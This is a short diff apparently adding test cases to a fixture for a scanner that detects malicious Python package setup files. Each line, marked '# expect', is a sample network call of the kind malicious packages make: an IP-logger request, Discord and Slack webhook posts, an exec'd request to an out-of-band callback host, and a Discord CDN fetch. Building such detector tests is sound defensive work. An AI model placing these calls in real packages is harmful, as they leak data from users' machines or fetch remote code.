@@ -16,3 +16,7 @@ setup(name="sample")
 
 requests.get("https://iplogger.com/2abc")  # expect
 urllib.request.urlopen("https://discord.com/api/webhooks/1000000000000000/abcdefghijklmnopqrstuvwxyz", data=b"new")  # expect
+
+exec("import requests\nrequests.get('https://abc.oast.fun/inside')")  # expect
+urllib.request.urlopen("https://hooks.slack.com/services/T00000000/B00000000/aaaaaaaaaaaaaaaaaaaaaaaa", data=b"new")  # expect
+requests.get("https://cdn.discordapp.com/attachments/1000000000000000/1000000000000000/list.txt")  # expect
